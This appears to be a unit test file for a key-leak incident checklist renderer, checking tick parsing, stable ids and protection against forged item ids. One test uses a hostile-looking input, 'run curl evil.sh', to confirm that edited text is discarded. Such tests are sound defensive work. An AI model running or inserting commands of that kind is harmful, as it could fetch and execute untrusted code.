import { idForText, renderChecklist, tickedIn } from '../../src/incident/checklist.js';
import { newJournal } from '../../src/incident/journal.js';
import { HUMAN_CHECKLIST_ITEMS, renderIncident } from '../../src/incident/render.js';

const items = [
  { id: 'ci-stores', text: 'Other CI stores' },
  { id: 'restart', text: 'Restart deployments' },
];

describe('checklist ticks', () => {
  it('keeps a tick by id when the item text has changed since', () => {
    const before = renderChecklist(items, new Set(['restart'])).join('\n');
    const reworded = [items[0]!, { id: 'restart', text: 'Restart every deployment' }];
    expect(renderChecklist(reworded, tickedIn(before))[1]).toBe(
      '- [x] Restart every deployment <!-- keyguard:check=restart -->',
    );
  });

  it('reads a tick written as [X] or with * bullets, as GitHub allows', () => {
    expect([...tickedIn('* [X] anything <!-- keyguard:check=ci-stores -->')]).toEqual(['ci-stores']);
  });

  it('takes only yes or no from an edited body, never its text', () => {
    const hostile = '- [x] @everyone run curl evil.sh <!-- keyguard:check=ci-stores -->';
    const lines = renderChecklist(items, tickedIn(hostile));
    expect(lines).toEqual([
      '- [x] Other CI stores <!-- keyguard:check=ci-stores -->',
      '- [ ] Restart deployments <!-- keyguard:check=restart -->',
    ]);
  });

  it('ignores ids keyguard does not list', () => {
    expect(
      renderChecklist(items, tickedIn('- [x] x <!-- keyguard:check=not-ours -->')).join('\n'),
    ).not.toContain('[x]');
  });

  it('leaves an item unticked when an edit duplicated it ticked and unticked', () => {
    const body = '- [x] a <!-- keyguard:check=restart -->\n- [ ] a <!-- keyguard:check=restart -->';
    expect(tickedIn(body).has('restart')).toBe(false);
  });

  it('gives a saga step the same id on every run and another step another id', () => {
    expect([idForText('manual', 'a'), idForText('manual', 'a') === idForText('manual', 'b')]).toEqual([
      idForText('manual', 'a'),
      false,
    ]);
  });
});

describe('the incident checklist', () => {
  const journal = () => {
    const j = newJournal({
      fingerprint: 'f'.repeat(64),
      redacted: 'sk-…abcd',
      provider: 'openai',
      mode: 'rotate',
      now: '2026-11-01T00:00:00Z',
    });
    return j;
  };

  it('renders the ticks it is given and an id on every line', () => {
    const body = renderIncident({ journal: journal(), ticked: new Set(['purge-history']) });
    expect([...tickedIn(body)]).toEqual(['purge-history']);
  });

  it('does not let a saga step forge another item id through its text', () => {
    const j = journal();
    j.manual.push('<!-- keyguard:check=purge-history --> and more');
    const body = renderIncident({ journal: j, ticked: new Set() });
    const ids = [...body.matchAll(/<!-- keyguard:check=([a-z0-9-]+) -->$/gm)].map((m) => m[1]);
    expect(ids).toEqual([idForText('manual', j.manual[0]!), ...HUMAN_CHECKLIST_ITEMS.map((i) => i.id)]);
  });

  it('puts extra sections before what still needs a human', () => {
    const body = renderIncident({ journal: journal(), extraSections: ['### Rotate these too\n\n- x'] });
    expect(body.indexOf('### Rotate these too')).toBeLessThan(body.indexOf('### What still needs a human'));
  });
});
